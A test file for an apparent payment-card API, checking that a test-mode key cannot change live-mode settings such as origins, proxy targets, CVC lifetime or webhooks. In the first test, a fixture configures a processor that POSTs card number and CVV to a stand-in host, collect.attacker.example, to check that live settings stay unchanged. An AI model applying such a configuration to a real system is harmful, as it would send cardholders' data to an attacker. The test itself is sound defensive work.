import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import request from 'supertest';
import { auth, type Harness, makeCard, makeHarness, makeMerchant, makeSession, type TestMerchant } from '../helpers/harness.js';

/**
 * API.md section 8: settings are kept per mode. A test key reads and changes only the test-mode settings, a live
 * key only the live ones: a leaked test key can never change where live card numbers and CVVs go.
 */
describe('test and live are separate worlds for settings too', () => {
  let h: Harness;
  let m: TestMerchant;
  const LIVE_CARD = '4111111111111111';
  before(async () => {
    h = await makeHarness();
    m = await makeMerchant(h, ['https://shop.example']);
  });
  after(() => h.close());

  const get = (key: string) => request(h.app).get('/Merchant').set(auth(key));

  it('a test key changes only the test settings: origins, proxy targets, processor, CVC lifetime, block threshold', async () => {
    const liveBefore = (await get(m.liveKey)).body;
    const patch = await request(h.app)
      .patch('/Merchant')
      .set(auth(m.testKey))
      .send({
        allowedOrigins: ['https://attacker.example'],
        allowedProxyTargets: ['https://collect.attacker.example/'],
        processor: {
          type: 'http',
          request: { method: 'POST', url: 'https://collect.attacker.example/charge', headers: {}, body: '{"pan":"${cardNumber}","cvv":"${cvv}"}' },
          response: { approved: { path: 'ok', equals: true } },
        },
        cvcSessionTtlSeconds: 3600,
        cvvBlockThreshold: 20,
      });
    assert.equal(patch.status, 200, JSON.stringify(patch.body));
    assert.deepEqual(patch.body.allowedOrigins, ['https://attacker.example']);
    const live = (await get(m.liveKey)).body;
    assert.deepEqual(live, liveBefore, 'the live settings are exactly as they were');
    assert.equal(live.mode, 'live');
    assert.equal(patch.body.mode, 'test', 'the answer says which mode it changed');
    assert.deepEqual(live.allowedOrigins, ['https://shop.example']);
    assert.deepEqual(live.allowedProxyTargets, []);
    assert.equal(live.processor.type, 'simulator');
    assert.equal(live.cvvBlockThreshold, 3);
    assert.equal(live.cvcSessionTtlSeconds, 90);
    // Where a live charge would go: still the live processor.
    const liveMerchant = (await h.deps.store.merchants.get(m.id, 'live'))!;
    assert.equal(h.deps.processorFor(liveMerchant).processor.name, 'simulator');
    const testMerchant = (await h.deps.store.merchants.get(m.id, 'test'))!;
    assert.equal(h.deps.processorFor(testMerchant).processor.name, 'http');
  });

  it("a live session's operations and hosted form never accept the origins set with the test key", async () => {
    const card = await makeCard(h, m.liveKey, { number: LIVE_CARD });
    const s = await makeSession(h, m.liveKey, { card });
    const fromAttacker = await request(h.app)
      .post('/CvvOperations/collectCvv')
      .set({ ...auth(s.token), Origin: 'https://attacker.example' })
      .send({ cvv: '123' });
    assert.equal(fromAttacker.status, 403);
    assert.equal(fromAttacker.body.error.code, 'origin_not_allowed');
    const page = await request(h.app).get(`/hosted/cvv?session=${s.id}`);
    assert.equal(page.status, 200);
    const csp = String(page.headers['content-security-policy']);
    assert.match(csp, /frame-ancestors[^;]*https:\/\/shop\.example/);
    assert.ok(!csp.includes('attacker.example'), 'the live hosted form cannot be framed by the origin the test key set');
    const fromShop = await request(h.app)
      .post('/CvvOperations/collectCvv')
      .set({ ...auth(s.token), Origin: 'https://shop.example' })
      .send({ cvv: '123' });
    assert.equal(fromShop.status, 200, JSON.stringify(fromShop.body));
    // A live CVV lives the live lifetime (90 s), not the hour the test key asked for.
    const left = Date.parse(fromShop.body.result.cvcSession.expiresAt) - h.clock.now();
    assert.ok(left <= 90_000 && left > 80_000, `live CVC lifetime ${left} ms`);
  });

  it('a live key changes only the live settings', async () => {
    const r = await request(h.app)
      .patch('/Merchant')
      .set(auth(m.liveKey))
      .send({ allowedOrigins: ['https://live-shop.example'] });
    assert.equal(r.status, 200);
    assert.deepEqual((await get(m.testKey)).body.allowedOrigins, ['https://attacker.example']);
    assert.deepEqual((await get(m.liveKey)).body.allowedOrigins, ['https://live-shop.example']);
  });

  it('webhook endpoints belong to the mode that created them', async () => {
    const created = await request(h.app)
      .post('/WebhookEndpoints')
      .set(auth(m.testKey))
      .send({ url: 'https://hooks.example/test', events: ['charge.succeeded'] });
    assert.equal(created.status, 201, JSON.stringify(created.body));
    const live = await request(h.app).get('/WebhookEndpoints').set(auth(m.liveKey));
    assert.ok(!JSON.stringify(live.body).includes(created.body.id), 'the live key does not see it');
    const del = await request(h.app).delete(`/WebhookEndpoints/${created.body.id}`).set(auth(m.liveKey));
    assert.equal(del.status, 404, 'nor delete it');
  });
});
